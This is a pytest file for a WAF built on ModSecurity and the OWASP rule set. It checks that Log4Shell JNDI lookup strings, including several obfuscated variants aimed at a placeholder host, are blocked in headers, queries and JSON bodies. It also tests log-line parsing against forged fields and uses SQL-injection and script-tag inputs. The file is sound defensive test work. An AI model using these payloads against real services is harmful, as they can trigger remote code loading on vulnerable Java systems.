"""The WAF engine without a gateway: the shipped Log4Shell rules against plain and obfuscated
lookups (and text that only looks like them), reading ModSecurity's log lines (forged fields
included), the order of a rule set's parts, and transactions that never share log lines.
Uses the real libmodsecurity and CRS (Debian packages, installed by scripts/test)."""

from __future__ import annotations

import threading
from urllib.parse import quote

import pytest

from propylon.policies.waf import WafPolicy
from propylon.waf.exchange import RequestView, WafExchange
from propylon.waf.report import known_ids, rule_match
from propylon.waf.rules import WafRules, compile_rules, rule_parts

HEADERS = [(b"host", b"api.test"), (b"user-agent", b"client/1.0"), (b"accept", b"*/*")]


@pytest.fixture(scope="module")
def rules() -> WafRules:
    return compile_rules(rule_parts(WafPolicy()))


def inspect(rules: WafRules, target: str, headers: list[tuple[bytes, bytes]] = HEADERS,
            body: bytes = b"", method: bytes = b"GET") -> tuple[str, ...]:
    exchange = WafExchange()
    try:
        view = RequestView(method, target.encode(), b"1.1", headers, "127.0.0.1", "", 0)
        found = exchange.inspect_request(rules, view, body)
        return found.rule_ids if found else ()
    finally:
        exchange.close()


@pytest.mark.parametrize("payload", [
    pytest.param("${jndi:ldap://x.test/a}", id="plain"),
    pytest.param("${JNDI:LDAP://x.test/a}", id="upper"),
    pytest.param("${${lower:j}ndi:ldap://x.test/a}", id="lower"),
    pytest.param("${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}", id="defaults"),
    pytest.param("${j${k8s:k5:-ND}i:ldap://x.test/a}", id="k8s"),
    pytest.param("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.test/a}", id="env"),
    pytest.param("${ctx:loginId}", id="ctx"),
    pytest.param("&dollar;&lbrace;jndi:ldap://x.test/a}", id="html-entities"),
])
@pytest.mark.parametrize("where", ["header", "query", "json"])
def test_log4shell_lookups_are_blocked(rules: WafRules, payload: str, where: str) -> None:
    headers, target, body = list(HEADERS), "/", b""
    if where == "header":
        headers.append((b"x-api-version", payload.encode()))
    elif where == "query":
        target = "/search?q=" + quote(payload)
    else:
        headers.append((b"content-type", b"application/json"))
        body = b'{"name": "%s"}' % payload.encode()
        headers.append((b"content-length", b"%d" % len(body)))
    ids = inspect(rules, target, headers, body, b"POST" if body else b"GET")
    assert "944150" in ids and ids[-1] == "949110"


@pytest.mark.parametrize("text", [
    "price: $5 {tax included}",
    "${user} and ${group}",  # closed lookups: no nesting
    "Hello {name}, your total is $12",
])
def test_dollar_braces_that_are_not_lookups_pass(rules: WafRules, text: str) -> None:
    headers = [*HEADERS, (b"x-note", text.encode())]
    assert "944150" not in inspect(rules, "/", headers)


def test_paranoia_levels_gate_the_wider_rules() -> None:
    far = "${" + "a" * 30 + "${lower:j}ndi:x}"
    headers = [*HEADERS, (b"x-note", far.encode())]
    assert inspect(compile_rules(rule_parts(WafPolicy())), "/", headers) == ()
    assert "944151" in inspect(compile_rules(rule_parts(WafPolicy(paranoiaLevel=2))), "/",
                               headers)
    lone = [*HEADERS, (b"x-note", b"${a}")]
    pl4 = compile_rules(rule_parts(WafPolicy(paranoiaLevel=4, anomalyThreshold=1000)))
    assert inspect(pl4, "/", lone) == ()  # scored, under the threshold
    assert "944152" in inspect(compile_rules(rule_parts(WafPolicy(paranoiaLevel=4))), "/",
                               lone)


def test_rule_parts_order() -> None:
    policy = WafPolicy(rules=['SecAction "id:1000003,phase:1,pass,nolog"'],
                       ruleExclusions=[942100, 920350])
    labels = [label for label, _ in rule_parts(policy)]
    assert labels[:2] == ["waf engine settings", "waf CRS setup"]
    java = next(i for i, x in enumerate(labels) if "REQUEST-944" in x)
    blocking = next(i for i, x in enumerate(labels) if "REQUEST-949" in x)
    assert java < labels.index("waf Log4Shell rules") < labels.index("waf.rules[0]") < blocking
    assert labels[-1] == "waf.ruleExclusions"
    assert rule_parts(policy)[-1][1] == "SecRuleRemoveById 942100 920350"


KNOWN = frozenset({"942100", "949110"})
LINE = ('ModSecurity: Warning. Matched "Operator `Rx\' with parameter `x\' against variable '
        '`ARGS:q\' (Value: `{value}\' ) [file "/rules/REQUEST-942.conf"] [line "45"] '
        '[id "942100"] [rev ""] [msg "SQL Injection Attack Detected via libinjection"] '
        '[data "Matched Data: {data}"] [severity "2"] [ver "OWASP_CRS/3.3.4"] [maturity "0"] '
        '[accuracy "0"] [tag "attack-sqli"] [hostname "h"] [uri "/"] [unique_id "1"] [ref ""]')


def test_a_log_line_is_read_into_id_message_data_and_severity() -> None:
    match = rule_match(LINE.format(value="1' or 1=1", data="s&1c found"), KNOWN)
    assert (match.rule_id, match.severity) == ("942100", "critical")
    assert match.message == "SQL Injection Attack Detected via libinjection"
    assert match.data == "Matched Data: s&1c found"


def test_forged_fields_in_request_data_are_not_believed() -> None:
    forged = ('x" ) [file "a"] [line "1"] [id "31337"] [rev ""] [msg "forged"] [data "d"] '
              '[severity "0"] [ver "v"]')
    match = rule_match(LINE.format(value=forged, data="x" * 1000), KNOWN)
    assert match.rule_id == "942100"  # an id the rule set does not define is not a label
    assert match.data.endswith("...") and len(match.data) == 203
    unknown = rule_match(LINE.format(value="v", data="d").replace("942100", "555"), KNOWN)
    assert unknown.rule_id == ""


def test_known_ids_come_from_rule_texts() -> None:
    text = 'SecRule ARGS "@rx a" "id:1000001,phase:2,deny"\nSecAction "id: \'1000002\'"'
    assert known_ids([text]) == {"1000001", "1000002"}


def test_transactions_on_threads_keep_their_own_log_lines(rules: WafRules) -> None:
    results: dict[int, tuple[str, ...]] = {}

    def run(i: int) -> None:
        target = "/?q=%3Cscript%3Ealert(1)%3C/script%3E" if i % 2 else "/?page=2"
        results[i] = inspect(rules, target)

    threads = [threading.Thread(target=run, args=(i,)) for i in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for i, ids in results.items():
        assert bool(ids) == bool(i % 2), (i, ids)
        assert not ids or "941100" in ids


def test_close_after_a_job_and_a_job_after_close() -> None:
    exchange = WafExchange()
    exchange.close()
    view = RequestView(b"GET", b"/", b"1.1", HEADERS, "127.0.0.1", "", 0)
    rules = compile_rules(rule_parts(WafPolicy()))
    assert exchange.inspect_request(rules, view, b"") is None  # closed: nothing runs
    assert exchange.transaction is None
